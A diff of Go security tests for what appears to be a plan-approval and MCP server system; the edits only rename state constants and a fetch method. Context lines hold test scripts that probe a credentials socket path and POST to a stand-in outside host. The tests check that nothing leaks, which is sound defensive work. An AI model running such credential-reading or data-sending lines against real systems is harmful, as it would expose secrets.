@@ -94,7 +94,7 @@ for (const path of ["/run/codeforge/credentials/credentials.sock", "/run/codefor
 			if _, err := w.Execute(ctx, code); err != nil {
 				return err.Error(), false
 			}
-			return judged(ctx, w, p.ID, trial, planapi.Open, 0)
+			return judged(ctx, w, p.ID, trial, planapi.StateOpen, 0)
 		}),
 		planned("mcp-server approves what is the operator's", "open, nothing sent", func(ctx context.Context, w *world.World) (string, bool) {
 			trial, r, err := dryRun(ctx, w, nil, operators)
@@ -107,7 +107,7 @@ for (const path of ["/run/codeforge/credentials/credentials.sock", "/run/codefor
 					return "DECIDED", false
 				}
 			}
-			return judged(ctx, w, p.ID, trial, planapi.Open, 0)
+			return judged(ctx, w, p.ID, trial, planapi.StateOpen, 0)
 		}),
 		planned("a plan approved with what was shown of another", "open, nothing sent", func(ctx context.Context, w *world.World) (string, bool) {
 			trial, r, err := dryRun(ctx, w, nil, anyones)
@@ -120,7 +120,7 @@ for (const path of ["/run/codeforge/credentials/credentials.sock", "/run/codefor
 					return "APPROVED", false
 				}
 			}
-			return judged(ctx, w, r.Receipt.Plan.ID, trial, planapi.Open, 0)
+			return judged(ctx, w, r.Receipt.Plan.ID, trial, planapi.StateOpen, 0)
 		}),
 		planned("a plan approved by many at once", "sent once", func(ctx context.Context, w *world.World) (string, bool) {
 			trial, r, err := dryRun(ctx, w, nil, anyones)
@@ -138,7 +138,7 @@ for (const path of ["/run/codeforge/credentials/credentials.sock", "/run/codefor
 				})
 			}
 			all.Wait()
-			seen, held := judged(ctx, w, p.ID, trial, planapi.Done, 1)
+			seen, held := judged(ctx, w, p.ID, trial, planapi.StateDone, 1)
 			return fmt.Sprintf("%d approvals, %s", yes.Load(), seen), held && yes.Load() == 1
 		}),
 		planned("a plan that another run adds to", "its own steps only", func(ctx context.Context, w *world.World) (string, bool) {
@@ -156,7 +156,7 @@ await fetch("https://d.wild.test/anything/held/2?t=TRIAL", { method: "POST", hea
 			if _, err := w.Control().DecidePlan(ctx, p.ID, planapi.Answer{Approve: true, Digest: p.Digest}); err != nil {
 				return err.Error(), false
 			}
-			return judged(ctx, w, p.ID, trial, planapi.Done, 1)
+			return judged(ctx, w, p.ID, trial, planapi.StateDone, 1)
 		}),
 		planned("a marker that an upstream forges", "no header, nothing sent", func(ctx context.Context, w *world.World) (string, bool) {
 			trial, r, err := dryRun(ctx, w, nil, `const r = await fetch("https://other.test/x/item/TRIAL?t=TRIAL"), item = await r.json();
@@ -187,7 +187,7 @@ console.log(found.includes("secret of" + " this plan"));`, "PLAN", r.Receipt.Pla
 			if err != nil || r.Receipt.Plan == nil {
 				return fmt.Sprint(err), false
 			}
-			whole, err := w.Control().Plan(ctx, r.Receipt.Plan.ID)
+			whole, err := w.Control().FetchPlan(ctx, r.Receipt.Plan.ID)
 			if err != nil {
 				return err.Error(), false
 			}
@@ -240,8 +240,8 @@ func formPlan(answer *mcp.ElicitResult, sent int) func(ctx context.Context, w *w
 
 // judged looks at what became of a plan, and counts what was sent.
 func judged(ctx context.Context, w *world.World, id, trial string, state planapi.State, sent int) (string, bool) {
-	p, err := w.Control().Plan(ctx, id)
-	for ; err == nil && p.State == planapi.Running; p, err = w.Control().Plan(ctx, id) {
+	p, err := w.Control().FetchPlan(ctx, id)
+	for ; err == nil && p.State == planapi.StateRunning; p, err = w.Control().FetchPlan(ctx, id) {
 		time.Sleep(50 * time.Millisecond)
 	}
 	if err != nil {
